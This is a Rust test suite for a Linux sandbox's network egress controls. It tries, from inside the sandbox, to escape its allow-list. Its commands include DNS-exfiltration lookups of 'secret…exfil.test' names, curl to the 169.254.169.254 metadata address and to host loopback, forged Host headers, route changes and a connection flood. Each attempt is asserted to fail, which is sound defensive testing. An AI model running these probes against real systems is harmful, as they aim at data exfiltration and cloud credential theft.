//! Network egress of a linux sandbox, attacked from inside: the host's DNS stub and relay
//! bound in the sandbox's routeless namespace let out exactly what the networking config
//! names, to a fake "internet" the test builds (see `internet`); everything else leads
//! nowhere. Each test is one class of escape from issue 12's list.

mod common;
mod internet;

use std::net::{IpAddr, SocketAddr};
use std::sync::Arc;
use std::sync::atomic::Ordering;
use std::time::Duration;

use common::{Isolated, assert_gone, can_run, test_plan};
use internet::{Internet, Server, TestResolver};
use omabox_backend_linux::Networking;
use omabox_backend_linux::port::LinuxSandboxPort;
use omabox_contract::networking::NetworkingConfig;

fn limited(hosts: &[&str]) -> NetworkingConfig {
    NetworkingConfig::Limited {
        allowed_hosts: hosts.iter().map(|h| h.to_string()).collect(),
        allow_package_managers: false,
        allow_mcp_servers: false,
    }
}

struct Fixture {
    iso: Isolated,
    port: LinuxSandboxPort,
}

impl Fixture {
    async fn start(networking: Networking, resolver: Arc<TestResolver>) -> Self {
        let iso = Isolated::new();
        let mut plan = test_plan();
        plan.network = networking;
        let port = LinuxSandboxPort::start_resolving(&iso.runtime(), &plan, resolver)
            .await
            .expect("sandbox start");
        Self { iso, port }
    }

    /// Runs `command` in the sandbox; its combined output with the exit line.
    async fn sh(&self, command: &str) -> String {
        self.port
            .exec_command(command, Some(Duration::from_secs(30)))
            .await
            .expect("exec")
    }

    /// `curl` in the sandbox: the body on success, else `FAILED <curl exit code>`.
    async fn curl(&self, args: &str) -> String {
        let out = self
            .sh(&format!(
                "curl -fsS -m 5 --noproxy '*' {args} 2>/dev/null || echo FAILED $?"
            ))
            .await;
        out.trim().to_owned()
    }

    async fn finish(self) {
        let identity = self.port.identity().clone();
        self.port.terminate().await.expect("destroy");
        assert_gone(&identity);
        self.iso.assert_empty();
    }
}

fn net(config: NetworkingConfig) -> Networking {
    Networking {
        config,
        ..Networking::default()
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_allowed_name_is_reached_and_another_name_is_not_even_resolved() {
    if !can_run() {
        return;
    }
    let inet = Internet::new();
    let web = inet.http(80, "web");
    let far = IpAddr::V4(inet.far);
    let resolver = TestResolver::new(&[("allowed.test", far), ("denied.test", far)]);
    let fx = Fixture::start(net(limited(&["allowed.test"])), Arc::clone(&resolver)).await;

    assert_eq!(
        fx.curl("http://allowed.test/").await,
        "web saw host allowed.test"
    );
    assert_eq!(web.accepts(), 1);
    // A denied name does not resolve, and its lookup never leaves the host.
    assert!(fx.curl("http://denied.test/").await.starts_with("FAILED"));
    // Asking for the denied name over the allowed name's connection: refused by name.
    let forged = fx
        .sh("curl -s -m 5 -o /dev/null -w '%{http_code}' -H 'Host: denied.test' http://allowed.test/")
        .await;
    assert_eq!(forged.trim(), "403");
    assert_eq!(web.accepts(), 1, "no denied request reached the server");
    assert!(
        !resolver.asked().iter().any(|n| n == "denied.test"),
        "{:?}",
        resolver.asked()
    );
    fx.finish().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn addresses_other_ports_ipv6_and_udp_lead_nowhere() {
    if !can_run() {
        return;
    }
    let inet = Internet::new();
    let web = inet.http(80, "web");
    let other_port = inet.http(8080, "other-port");
    let udp = inet.udp(9999);
    let far = IpAddr::V4(inet.far);
    let resolver = TestResolver::new(&[("allowed.test", far)]);
    let fx = Fixture::start(net(limited(&["allowed.test"])), resolver).await;

    // The allowed host's address, directly: no route.
    let direct = fx.curl(&format!("http://{}/", inet.far)).await;
    assert!(direct.starts_with("FAILED"), "{direct}");
    // The allowed host on a port its entry does not name.
    assert!(
        fx.curl("http://allowed.test:8080/")
            .await
            .starts_with("FAILED")
    );
    // IPv6: no AAAA answer, no v6 route, no listener on ::1.
    assert!(
        fx.curl("-6 http://allowed.test/")
            .await
            .starts_with("FAILED")
    );
    assert!(fx.curl("http://[::1]:80/").await.starts_with("FAILED"));
    assert!(
        fx.curl(&format!("http://[::ffff:{}]/", inet.far))
            .await
            .starts_with("FAILED")
    );
    // UDP anywhere but the stub: unreachable.
    let sent = fx
        .sh(&format!(
            "python3 -c \"import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b'x', ('{}', 9999))\" 2>&1; echo rc=$?",
            inet.far
        ))
        .await;
    assert!(sent.contains("unreachable"), "{sent}");
    tokio::time::sleep(Duration::from_millis(200)).await;
    assert_eq!(udp.load(Ordering::SeqCst), 0);
    assert_eq!(web.accepts(), 0);
    assert_eq!(other_port.accepts(), 0);
    fx.finish().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn names_resolving_to_the_host_loopback_or_metadata_are_refused() {
    if !can_run() {
        return;
    }
    let inet = Internet::new();
    // Services of the host itself: on its link address and on its loopback.
    let on_link = Server::http(
        std::net::TcpListener::bind(SocketAddr::from((inet.host, 80))).unwrap(),
        "host-link",
    );
    let on_loopback = Server::http(
        std::net::TcpListener::bind("127.0.0.1:0").unwrap(),
        "host-lo",
    );
    let lo_port = on_loopback.addr.port();
    let resolver = TestResolver::new(&[
        ("hostside.test", IpAddr::V4(inet.host)),
        ("loop.test", "127.0.0.1".parse().unwrap()),
        ("meta.test", "169.254.169.254".parse().unwrap()),
        ("meta6.test", "fd00:ec2::254".parse().unwrap()),
    ]);
    let hosts = [
        "hostside.test".to_string(),
        "loop.test".into(),
        format!("loop.test:{lo_port}"),
        "meta.test".into(),
        "meta6.test".into(),
    ];
    let hosts: Vec<&str> = hosts.iter().map(String::as_str).collect();
    let fx = Fixture::start(net(limited(&hosts)), resolver).await;
    for url in [
        "http://hostside.test/".to_string(),
        "http://loop.test/".into(),
        format!("http://loop.test:{lo_port}/"),
        format!("http://127.0.0.1:{lo_port}/"),
        "http://meta.test/".into(),
        "http://meta6.test/".into(),
    ] {
        let got = fx.curl(&url).await;
        assert!(got.starts_with("FAILED"), "{url}: {got}");
    }
    assert_eq!(on_link.accepts(), 0);
    assert_eq!(on_loopback.accepts(), 0);
    fx.finish().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn lookups_of_denied_names_never_reach_a_resolver() {
    if !can_run() {
        return;
    }
    let inet = Internet::new();
    let resolver = TestResolver::new(&[("allowed.test", IpAddr::V4(inet.far))]);
    let fx = Fixture::start(net(limited(&["allowed.test"])), Arc::clone(&resolver)).await;
    let out = fx
        .sh("for i in 1 2 3 4 5 6 7 8; do getent hosts \"secret$i-$RANDOM.exfil.test\" && echo LEAKED; done; getent ahostsv4 allowed.test | head -1")
        .await;
    assert!(!out.contains("LEAKED"), "{out}");
    // The allowed name resolves to a synthetic loopback address of the sandbox's own.
    assert!(out.starts_with("127.64."), "{out}");
    // Over TCP too (what a resolver falls back to): answered for the allowed name only.
    let tcp = fx
        .sh(r#"python3 -c "
import socket, struct
def ask(name):
    q = struct.pack('>HHHHHH', 7, 0x100, 1, 0, 0, 0) + b''.join(bytes([len(p)]) + p.encode() for p in name.split('.')) + b'\0' + struct.pack('>HH', 1, 1)
    s = socket.create_connection(('127.0.0.1', 53))
    s.sendall(struct.pack('>H', len(q)) + q)
    n = struct.unpack('>H', s.recv(2))[0]
    r = s.recv(n)
    return r[3] & 15, struct.unpack('>H', r[6:8])[0]
print(ask('allowed.test'), ask('tcp-exfil.denied.test'))
""#)
        .await;
    assert_eq!(tcp.trim(), "(0, 1) (5, 0)", "rcode and answer count: {tcp}");
    let asked = resolver.asked();
    assert!(asked.iter().all(|n| n == "allowed.test"), "{asked:?}");
    fx.finish().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_sandbox_cannot_change_routes_links_or_take_the_hosts_ports() {
    if !can_run() {
        return;
    }
    let inet = Internet::new();
    let resolver = TestResolver::new(&[("allowed.test", IpAddr::V4(inet.far))]);
    let fx = Fixture::start(net(limited(&["allowed.test"])), resolver).await;
    for cmd in [
        format!("ip route add {}/32 dev lo", inet.far),
        "ip route add default dev lo".to_string(),
        "ip link add omabox0 type dummy".into(),
        "ip addr add 198.18.255.1/32 dev lo".into(),
        "ip link set lo down".into(),
    ] {
        let out = fx.sh(&format!("{cmd} 2>&1; echo rc=$?")).await;
        assert!(!out.contains("rc=0"), "{cmd}: {out}");
    }
    // The host's listeners cannot be displaced: privileged ports are not the sandbox's.
    let out = fx
        .sh("python3 -c \"import socket; s=socket.socket(); s.bind(('127.0.0.1', 443))\" 2>&1; echo rc=$?")
        .await;
    assert!(
        out.contains("Permission denied") || out.contains("in use"),
        "{out}"
    );
    assert!(!out.contains("rc=0"), "{out}");
    fx.finish().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_policy_changes_on_the_live_sandbox() {
    if !can_run() {
        return;
    }
    let inet = Internet::new();
    let web = inet.http(80, "web");
    let alt = inet.http(8443, "alt");
    let far = IpAddr::V4(inet.far);
    let resolver = TestResolver::new(&[("a.test", far), ("b.test", far)]);
    let fx = Fixture::start(net(limited(&["a.test"])), resolver).await;
    assert_eq!(fx.curl("http://a.test/").await, "web saw host a.test");
    assert!(fx.curl("http://b.test:8443/").await.starts_with("FAILED"));

    // Widened: b.test on a port no listener had yet.
    fx.port
        .set_networking(&net(limited(&["a.test", "b.test:8443"])))
        .unwrap();
    assert_eq!(
        fx.curl("http://b.test:8443/").await,
        "alt saw host b.test:8443"
    );
    // Narrowed to nothing.
    fx.port.set_networking(&net(limited(&[]))).unwrap();
    assert!(fx.curl("http://a.test/").await.starts_with("FAILED"));
    assert!(fx.curl("http://b.test:8443/").await.starts_with("FAILED"));
    assert_eq!((web.accepts(), alt.accepts()), (1, 1));
    fx.finish().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn unrestricted_reaches_any_name_but_never_an_address_or_the_host() {
    if !can_run() {
        return;
    }
    let inet = Internet::new();
    let web = inet.http(80, "web");
    let far = IpAddr::V4(inet.far);
    let resolver = TestResolver::new(&[
        ("one.test", far),
        ("two.test", far),
        ("hostside.test", IpAddr::V4(inet.host)),
    ]);
    let alt = inet.http(8080, "alt");
    let off_list = inet.http(8081, "off-list");
    let fx = Fixture::start(net(NetworkingConfig::Unrestricted), resolver).await;
    assert_eq!(fx.curl("http://one.test/").await, "web saw host one.test");
    // Any port: one of the listened ones, and one only the sk_lookup redirect leads to.
    assert_eq!(
        fx.curl("http://one.test:8080/").await,
        "alt saw host one.test:8080"
    );
    assert_eq!(
        fx.curl("http://one.test:8081/").await,
        "off-list saw host one.test:8081"
    );
    assert_eq!((alt.accepts(), off_list.accepts()), (1, 1));
    assert_eq!(fx.curl("http://two.test/").await, "web saw host two.test");
    assert!(fx.curl("http://hostside.test/").await.starts_with("FAILED"));
    assert!(
        fx.curl(&format!("http://{}/", inet.far))
            .await
            .starts_with("FAILED")
    );
    assert_eq!(web.accepts(), 2);
    fx.finish().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_gateway_is_reached_at_its_port_on_loopback_and_nothing_else_of_the_host() {
    if !can_run() {
        return;
    }
    let gateway = Server::http(
        std::net::TcpListener::bind("127.0.0.1:0").unwrap(),
        "gateway",
    );
    let other = Server::http(std::net::TcpListener::bind("127.0.0.1:0").unwrap(), "other");
    let networking = Networking {
        config: limited(&[]),
        gateway: Some(gateway.addr),
        gateway_name: Some("gateway.test".into()),
        ..Networking::default()
    };
    let fx = Fixture::start(networking, TestResolver::new(&[])).await;
    let port = gateway.addr.port();
    assert_eq!(
        fx.curl(&format!("http://127.0.0.1:{port}/v1/x")).await,
        format!("gateway saw host 127.0.0.1:{port}")
    );
    let got = fx
        .curl(&format!("http://127.0.0.1:{}/", other.addr.port()))
        .await;
    assert!(got.starts_with("FAILED"), "{got}");
    assert_eq!((gateway.accepts(), other.accepts()), (1, 0));
    fx.finish().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn one_sandbox_cannot_reach_another() {
    if !can_run() {
        return;
    }
    let inet = Internet::new();
    let resolver = TestResolver::new(&[("allowed.test", IpAddr::V4(inet.far))]);
    let a = Fixture::start(net(limited(&["allowed.test"])), Arc::clone(&resolver)).await;
    let b = Fixture::start(net(limited(&["allowed.test"])), resolver).await;
    let listening = a
        .sh("python3 -c \"import socket,time; s=socket.socket(); s.bind(('127.0.0.1', 8000)); s.listen(); print('up', flush=True); time.sleep(30)\" > /tmp/l 2>&1 & sleep 0.5; cat /tmp/l")
        .await;
    assert!(listening.contains("up"), "{listening}");
    assert!(b.curl("http://127.0.0.1:8000/").await.starts_with("FAILED"));
    a.finish().await;
    b.finish().await;
}

/// The kernel memory of this process's TCP sockets other than the fake internet's servers
/// (so: the relay's, both its sandbox side and its upstream side), plus the bytes in its
/// pipes (the relay's splice pipes): `(socket bytes, pipe bytes, sockets counted)`. Socket
/// memory is `SO_MEMINFO`'s receive queue + send queue + forward allocation.
fn relay_buffer_bytes(far: std::net::Ipv4Addr) -> (u64, u64, usize) {
    use std::os::fd::RawFd;
    fn opt(fd: RawFd, name: libc::c_int) -> Option<libc::c_int> {
        let mut value: libc::c_int = 0;
        let mut len = std::mem::size_of::<libc::c_int>() as libc::socklen_t;
        // SAFETY: getsockopt writes at most `len` bytes into `value`; a closed fd only errs.
        let rc = unsafe {
            libc::getsockopt(
                fd,
                libc::SOL_SOCKET,
                name,
                (&mut value as *mut libc::c_int).cast(),
                &mut len,
            )
        };
        (rc == 0).then_some(value)
    }
    let (mut sockets, mut pipes, mut counted) = (0u64, 0u64, 0usize);
    let mut seen_pipes = std::collections::HashSet::new();
    for entry in std::fs::read_dir("/proc/self/fd").unwrap().flatten() {
        let Ok(fd) = entry.file_name().to_string_lossy().parse::<RawFd>() else {
            continue;
        };
        let Ok(target) = std::fs::read_link(entry.path()) else {
            continue;
        };
        let target = target.to_string_lossy().into_owned();
        if target.starts_with("pipe:") {
            let mut queued: libc::c_int = 0;
            let fresh = seen_pipes.insert(target);
            // SAFETY: FIONREAD writes one int; a closed fd only errs.
            if fresh && unsafe { libc::ioctl(fd, libc::FIONREAD, &mut queued) } == 0 {
                pipes += queued.max(0) as u64;
            }
            continue;
        }
        if !target.starts_with("socket:")
            || !matches!(
                opt(fd, libc::SO_DOMAIN),
                Some(libc::AF_INET | libc::AF_INET6)
            )
            || opt(fd, libc::SO_TYPE) != Some(libc::SOCK_STREAM)
            || opt(fd, libc::SO_ACCEPTCONN) != Some(0)
        {
            continue;
        }
        // SAFETY: a zeroed sockaddr_storage is valid; getsockname writes at most `len`.
        let mut addr: libc::sockaddr_storage = unsafe { std::mem::zeroed() };
        let mut len = std::mem::size_of::<libc::sockaddr_storage>() as libc::socklen_t;
        // SAFETY: as above.
        if unsafe {
            libc::getsockname(
                fd,
                (&mut addr as *mut libc::sockaddr_storage).cast(),
                &mut len,
            )
        } != 0
        {
            continue;
        }
        if libc::c_int::from(addr.ss_family) == libc::AF_INET {
            // SAFETY: the family says this is a sockaddr_in.
            let v4 =
                unsafe { &*(&addr as *const libc::sockaddr_storage).cast::<libc::sockaddr_in>() };
            if std::net::Ipv4Addr::from(u32::from_be(v4.sin_addr.s_addr)) == far {
                continue;
            }
        }
        let mut info = [0u32; 9];
        let mut len = std::mem::size_of_val(&info) as libc::socklen_t;
        // SAFETY: SO_MEMINFO writes at most `len` bytes of u32 counters into `info`.
        let rc = unsafe {
            libc::getsockopt(
                fd,
                libc::SOL_SOCKET,
                libc::SO_MEMINFO,
                info.as_mut_ptr().cast(),
                &mut len,
            )
        };
        if rc == 0 {
            let at = |i: libc::c_int| u64::from(info[i as usize]);
            sockets += at(libc::SK_MEMINFO_RMEM_ALLOC)
                + at(libc::SK_MEMINFO_WMEM_QUEUED)
                + at(libc::SK_MEMINFO_FWD_ALLOC);
            counted += 1;
        }
    }
    (sockets, pipes, counted)
}

/// A sandbox with a 64 MiB memory limit opens many connections through the relay to an
/// upstream that never reads (it uploads until every buffer is full) and to one that
/// writes without end (it never reads what arrives): the kernel memory of the relay's
/// host-side sockets and pipes for it stays within its memory limit (before: ~N × several
/// MiB, outside every limit: autotuned socket buffers and 1 MiB pipes per direction).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_relays_buffers_for_a_sandbox_stay_within_its_memory_limit() {
    if !can_run() {
        return;
    }
    const LIMIT: u64 = 64 << 20;
    let inet = Internet::new();
    let accepted = Arc::new(std::sync::atomic::AtomicUsize::new(0));
    let sink = inet.listener(9001);
    let counted = Arc::clone(&accepted);
    std::thread::spawn(move || {
        let mut held = Vec::new();
        while let Ok((stream, _)) = sink.accept() {
            counted.fetch_add(1, Ordering::SeqCst);
            held.push(stream);
        }
    });
    let source = inet.listener(9002);
    let counted = Arc::clone(&accepted);
    std::thread::spawn(move || {
        while let Ok((mut stream, _)) = source.accept() {
            counted.fetch_add(1, Ordering::SeqCst);
            std::thread::spawn(move || {
                use std::io::Write as _;
                let chunk = vec![0x5au8; 64 << 10];
                while stream.write_all(&chunk).is_ok() {}
            });
        }
    });
    let far = IpAddr::V4(inet.far);
    let resolver = TestResolver::new(&[("sink.test", far), ("source.test", far)]);
    let iso = Isolated::new();
    let mut plan = test_plan();
    plan.limits.memory_bytes = Some(LIMIT);
    plan.limits.nofile = 1024;
    plan.network = net(limited(&["sink.test:9001", "source.test:9002"]));
    let port = LinuxSandboxPort::start_resolving(&iso.runtime(), &plan, resolver)
        .await
        .expect("sandbox start");
    let fx = Fixture { iso, port };
    let script = r#"
import socket, sys, time
socks = []
for i in range(96):
    sink = i % 2 == 0
    try:
        s = socket.create_connection(("sink.test" if sink else "source.test", 9001 if sink else 9002), timeout=5)
    except OSError:
        continue
    s.setblocking(False)
    socks.append((sink, s))
chunk = b"x" * 65536
for _ in range(30):
    for sink, s in socks:
        if not sink:
            continue
        try:
            while True:
                s.send(chunk)
        except OSError:
            pass
    time.sleep(0.1)
open("/tmp/filled", "w").write(str(len(socks)))
time.sleep(600)
"#;
    let started = fx
        .sh(&format!(
            "cat > /tmp/fill.py <<'EOF'\n{script}\nEOF\npython3 /tmp/fill.py > /tmp/fill.log 2>&1 &\necho started"
        ))
        .await;
    assert!(started.contains("started"), "{started}");
    // Wait for the script's fill (a guard, not a timing: it pushes for a few seconds).
    let mut filled = String::new();
    for _ in 0..240 {
        filled = fx
            .sh("cat /tmp/filled 2>/dev/null; cat /tmp/fill.log")
            .await;
        if filled.trim().parse::<usize>().is_ok() || filled.contains("Error") {
            break;
        }
        tokio::time::sleep(Duration::from_millis(250)).await;
    }
    assert!(
        filled.trim().parse::<usize>().is_ok(),
        "the filler did not finish: {filled}"
    );
    // Then until the relay's memory stops changing.
    let mut last = (0, 0, 0);
    for _ in 0..40 {
        tokio::time::sleep(Duration::from_millis(250)).await;
        let now = relay_buffer_bytes(inet.far);
        let (a, b) = (now.0 + now.1, last.0 + last.1);
        last = now;
        if a.abs_diff(b) <= a / 100 {
            break;
        }
    }
    let (sockets, pipes, counted) = last;
    eprintln!(
        "relay for a {} MiB sandbox: {} KiB in {counted} sockets, {} KiB in pipes, {} upstream connections",
        LIMIT >> 20,
        sockets >> 10,
        pipes >> 10,
        accepted.load(Ordering::SeqCst)
    );
    assert!(counted > 0, "no relay socket found");
    let cap = omabox_egress::SocketBuffers::default().connections_within(LIMIT);
    assert!(
        accepted.load(Ordering::SeqCst) <= cap,
        "more than {cap} connections"
    );
    assert!(
        sockets + pipes <= LIMIT,
        "the relay holds {} KiB for a sandbox limited to {} KiB",
        (sockets + pipes) >> 10,
        LIMIT >> 10
    );
    fx.finish().await;
}
